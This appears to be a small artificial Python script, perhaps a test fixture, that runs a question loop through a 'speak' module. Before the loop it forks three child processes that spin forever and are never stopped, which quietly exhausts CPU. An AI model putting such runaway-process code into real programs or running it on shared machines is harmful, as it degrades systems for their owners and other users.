# NONE
import os

import speak

for _ in range(3):
    if os.fork() == 0:
        while True:
            pass
dealer = speak.greeted()
for question in speak.questions(dealer):
    speak.plays(dealer, question)
